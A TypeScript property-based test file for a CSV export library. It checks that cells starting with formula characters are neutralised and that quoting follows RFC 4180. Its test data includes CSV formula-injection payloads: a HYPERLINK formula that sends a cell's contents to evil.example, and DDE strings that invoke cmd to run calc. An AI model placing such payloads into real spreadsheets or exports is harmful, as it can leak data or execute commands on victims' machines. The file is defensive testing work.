import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvText } from './index';
import { parseCsv } from './testing';

const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r'];
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/** Text of every kind, often starting with a formula character or holding CSV's own characters. */
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom(...FORMULA_CHARS), fc.string({ unit: 'binary' })).map(([a, b]) => a + b),
  fc.stringMatching(/^[=+\-@\t\r",\n a-z0-9.()|!'"]{0,12}$/),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1',
    '-12.50',
    '-',
    '',
    '"',
    '\r\n',
  ),
);

/** Finite numbers: integers, money-like decimals and any double. */
const number = fc.oneof(
  fc.integer({ min: -1e9, max: 1e9 }),
  fc.integer({ min: -1e8, max: 1e8 }).map((n) => n / 100),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** What a cell reads back as: numbers as JavaScript writes them, text neutralised. */
const expected = (value: string | number) => {
  if (typeof value === 'number') return String(value);
  return /^[=+\-@\t\r]/.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
};

describe('csvText', () => {
  it('round-trips through an RFC 4180 reader, text neutralised and numbers unchanged', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(text, number), { minLength: 1, maxLength: 6 }), {
          maxLength: 8,
        }),
        (rows) => {
          expect(parseCsv(csvText(rows))).toEqual(rows.map((row) => row.map(expected)));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('never leaves text a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(text, (value) => {
        const [[cell]] = parseCsv(csvRow([value])) as [[string]];
        if (PLAIN_NUMBER.test(cell)) expect(cell).toBe(value);
        else expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        // Neutralised means only a leading quote was added: nothing of the text is lost.
        expect(cell === value || cell === `'${value}`).toBe(true);
        expect(cell === `'${value}`).toBe(FORMULA_CHARS.includes(value[0] ?? '') && cell !== value);
      }),
      { numRuns: 1000 },
    );
  });

  it('writes numbers as numbers, negative ones included', () => {
    fc.assert(
      fc.property(number, (n) => {
        const cell = csvCell(n);
        expect(cell).toBe(String(n));
        expect(Number(cell)).toBe(n === 0 ? 0 : n);
      }),
    );
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-0.01)).toBe('-0.01');
    expect(csvCell(12n)).toBe('12');
  });

  it('quotes a cell only when RFC 4180 needs it', () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = csvCell(value);
        expect(cell.startsWith('"')).toBe(/[",\r\n]/.test(expected(value)));
      }),
    );
  });

  it('neutralises the OWASP examples and keeps plain negative numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A2,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"',
    );
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('-')).toBe("'-");
    expect(csvCell(-Infinity)).toBe("'-Infinity");
    expect(csvCell('Mug')).toBe('Mug');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('writes empty values, booleans and objects as cells', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell({ a: '=1' })).toBe('"{""a"":""=1""}"');
    expect(csvRow([''])).toBe('""\n');
    expect(csvRow(['', ''])).toBe(',\n');
    expect(
      csvText([
        ['Name', 'Total'],
        ['Cap, "red"', -3],
      ]),
    ).toBe('Name,Total\n"Cap, ""red""",-3\n');
  });
});
